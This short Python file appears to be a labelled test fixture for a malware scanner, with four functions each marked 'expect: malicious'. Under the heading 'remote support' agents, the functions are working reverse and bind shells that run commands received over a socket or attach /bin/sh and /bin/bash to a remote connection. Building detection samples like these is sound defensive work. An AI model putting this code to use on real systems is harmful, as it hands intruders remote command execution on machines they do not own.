"""'Remote support' agents."""
import os
import pty
import socket
import subprocess


def agent(host: str, port: int):
    s = socket.create_connection((host, port))
    while True:
        data = s.recv(1024).decode()
        # expect: malicious
        out = subprocess.run(data, shell=True, capture_output=True)
        s.sendall(out.stdout + out.stderr)


def popen_shell(host: str):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect((host, 443))
    # expect: malicious
    subprocess.Popen(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())


def listener(port: int):
    srv = socket.socket()
    srv.bind(("0.0.0.0", port))
    srv.listen(1)
    conn, _ = srv.accept()
    while True:
        cmd = conn.recv(4096)
        # expect: malicious
        conn.send(os.popen(cmd.decode()).read().encode())


def tty(host):
    s = socket.socket()
    s.connect((host, 9001))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    # expect: malicious
    pty.spawn("/bin/bash")
